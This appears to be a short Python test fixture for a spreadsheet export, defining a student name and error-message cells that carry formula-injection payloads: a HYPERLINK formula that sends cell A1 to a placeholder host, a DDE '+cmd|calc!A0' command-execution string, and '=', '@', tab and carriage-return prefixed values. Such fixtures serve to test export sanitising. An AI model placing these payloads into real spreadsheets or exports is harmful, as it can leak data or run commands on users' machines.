"""Is called by a formula that a spreadsheet would run. The export shows a name."""

STUDENT = '=HYPERLINK("http:||example.org?x="&A1,"click")'
CELLS = {
    "a_double": "def double(x):\n    raise ValueError('=1+1')",
    "b_answer": "raise KeyError('+cmd|calc!A0')",
    "c_remainder": "def remainder(n):\n    raise AssertionError('@SUM(1)\\n  expected: -1+1\\n  got: \\t=2\\n  fix: \\r=3')",
}
